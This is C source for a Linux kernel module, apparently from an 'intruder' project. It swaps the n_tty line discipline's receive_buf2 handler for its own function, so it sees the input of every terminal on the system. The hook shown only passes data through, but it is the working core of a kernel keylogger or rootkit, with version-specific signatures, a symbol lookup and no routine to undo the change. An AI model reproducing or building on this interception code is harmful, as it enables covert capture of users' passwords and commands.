/* Intercepts the input of every terminal. */
#include "intruder.h"
#include <linux/tty.h>
#include <linux/tty_ldisc.h>

static typeof(((struct tty_ldisc_ops *)0)->receive_buf2) original;

#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 14, 0)
typedef char flag;
#elif LINUX_VERSION_CODE < KERNEL_VERSION(6, 6, 0)
typedef const char flag;
#else
typedef const u8 flag;
#endif

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 6, 0)
static int receive(struct tty_struct *tty, const unsigned char *text, flag *flags, int count) {
#else
static size_t receive(struct tty_struct *tty, const u8 *text, flag *flags, size_t count) {
#endif
    return original(tty, text, flags, count);
}

static int __init begin(void) {
    struct tty_ldisc_ops *operations = (struct tty_ldisc_ops *)find("n_tty_ops");
    if (!operations) {
        return -ENOENT;
    }
    original = operations->receive_buf2;
    operations->receive_buf2 = receive;
    return 0;
}
module_init(begin);
